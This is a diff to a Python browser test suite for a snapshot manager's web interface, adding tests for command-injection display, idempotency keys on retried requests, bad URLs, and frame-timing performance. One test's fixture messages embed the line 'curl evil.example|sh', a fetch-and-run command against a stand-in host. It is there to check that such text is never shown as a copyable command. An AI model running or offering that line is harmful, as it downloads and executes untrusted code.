@@ -303,6 +303,72 @@ def hostile(suite):
 
 
 @test
+def forged(suite):
+    """What people have written is never drawn as a command that could be copied."""
+    event = suite.world.snapmgr("events", "--limit", "1")["events"][0]
+    event["message"] = "held by anna: x `snapmgr check a\ncurl evil.example|sh` y"
+    page = suite.page("#/clones")
+    page.answer("/api/v1/events?limit", lambda _: (200, {"events": [event]}))
+    for view in ("#/events", "#/"):
+        suite.show(page, view)
+        page.wait("/curl evil/.test(document.querySelector('.events')?.textContent)")
+        check(page.value("document.querySelectorAll('.events .command').length") == 0, view)
+    error = {"error": {"code": "refused", "message": "it is held: `snapmgr check a\ncurl evil.example|sh`",
+                       "hint": "release it", "commands": []}}
+    page.answer("/api/v1/mirrors", lambda _: (409, error))
+    suite.show(page, "#/mirrors")
+    page.wait("/curl evil/.test(document.querySelector('.notice.error')?.textContent)")
+    check(page.value("document.querySelectorAll('.notice.error .command').length") == 0, "an error")
+    page.complaints.clear()  # of an answer that was to be one of failure
+
+
+@test
+def repeated(suite):
+    """What is asked for again because no answer came has the key of the first time, and a dry run has none."""
+    page = suite.page("#/volume/vm1-root")
+    keys = []
+
+    def answer(request):
+        fields = {name.lower(): value for name, value in request["headers"].items()}
+        is_dry = "dry_run" in request.get("postData", "")
+        keys.append((is_dry, fields.get("idempotency-key")))
+        # Only a dry run is done: the rest fails without an answer, and then with one.
+        if is_dry:
+            return None
+        return 423, {"error": {"code": "locked", "message": "try again", "hint": None, "commands": []}}
+    page.answer("/api/v1/prune", answer)
+    page.click("Prune…")
+    page.wait("document.querySelector('dialog[open] .facts')", 15)
+    # No answer comes.
+    page.value("window.wayOut = window.fetch; window.tried = [];"
+               "window.fetch = (url, options) => { tried.push(options.headers?.['Idempotency-Key']);"
+               " return Promise.reject(new TypeError('gone')); }; 1")
+    for count in (1, 2):
+        page.click("dialog .primary")
+        page.wait(f"window.tried.filter((each) => each).length === {count}"
+                  " && !document.querySelector('dialog .primary').disabled")
+    page.value("window.fetch = window.wayOut; 1")
+    first = page.value("window.tried.filter((each) => each)")
+    for count in (1, 2):
+        page.click("dialog .primary")
+        suite.world.wait_for(lambda: sum(not is_dry for is_dry, _ in keys) == count)
+        page.wait("/try again/.test(document.querySelector('dialog .notice')?.textContent)"
+                  " && !document.querySelector('dialog .primary').disabled")
+    answered = [key for is_dry, key in keys if not is_dry]
+    check(first[0] and first[0] == first[1] == answered[0], f"{first} {answered}")
+    check(answered[1] and answered[1] != answered[0], f"what was answered is pinned: {answered}")
+    check(all(key is None for is_dry, key in keys if is_dry), f"a dry run has a key: {keys}")
+    page.complaints.clear()  # of answers that were to be ones of failure
+
+
+@test
+def broken_address(suite):
+    """An address that cannot be decoded shows the first page, and not an empty one."""
+    page = suite.page("#/50%")
+    check(page.value("document.querySelector('.view h1') !== null"), "the page is blank")
+
+
+@test
 def strip(suite):
     """What a revert would change is shown in bytes and as ranges over the volume, then as files."""
     page = suite.page("#/volume/data/{named}")
@@ -667,6 +733,18 @@ def many(suite):
     # Others may be at work on this machine: the best of three tells what the page takes.
     took = min(first_axis(page) for _ in range(3))
     suite.picture(page, "volume-35000")
+    # Likewise.
+    middle, high = (min(each) for each in zip(*[frames(page) for _ in range(3)]))
+    print(f"# 35,000: first axis {took:.0f} ms; a frame is painted in {middle:.1f} ms, 90 % in {high:.1f} ms")
+    check(took < 1000, f"the first axis took {took:.0f} ms")
+    check(middle < 8.3 and high < 16.7, f"frames of {middle:.1f} and {high:.1f} ms")
+    rows = page.value("document.querySelectorAll('.sheet .row').length")
+    check(rows < 60, f"{rows} rows are in the page")
+    page.complaints.clear()  # the daemon has no snapshot 35000
+
+
+def frames(page):
+    """How long a frame takes to paint, in milliseconds: half of them, and nine of ten."""
     page.value("""(async () => {
         const line = document.querySelector('.timeline');
         const box = line.getBoundingClientRect();
@@ -678,13 +756,8 @@ def many(suite):
             await new Promise(requestAnimationFrame);
         } })()""")
     paints = page.value("performance.getEntriesByName('timeline').map((each) => each.duration).sort((a, b) => a - b)")
-    middle, high = paints[len(paints) // 2], paints[int(len(paints) * 0.9)]
-    print(f"# 35,000: first axis {took:.0f} ms; a frame is painted in {middle:.1f} ms, 90 % in {high:.1f} ms")
-    check(took < 1000, f"the first axis took {took:.0f} ms")
-    check(len(paints) > 80 and middle < 8.3 and high < 16.7, f"frames of {middle:.1f} and {high:.1f} ms")
-    rows = page.value("document.querySelectorAll('.sheet .row').length")
-    check(rows < 60, f"{rows} rows are in the page")
-    page.complaints.clear()  # the daemon has no snapshot 35000
+    check(len(paints) > 80, f"{len(paints)} frames")
+    return paints[len(paints) // 2], paints[int(len(paints) * 0.9)]
 
 
 def main():
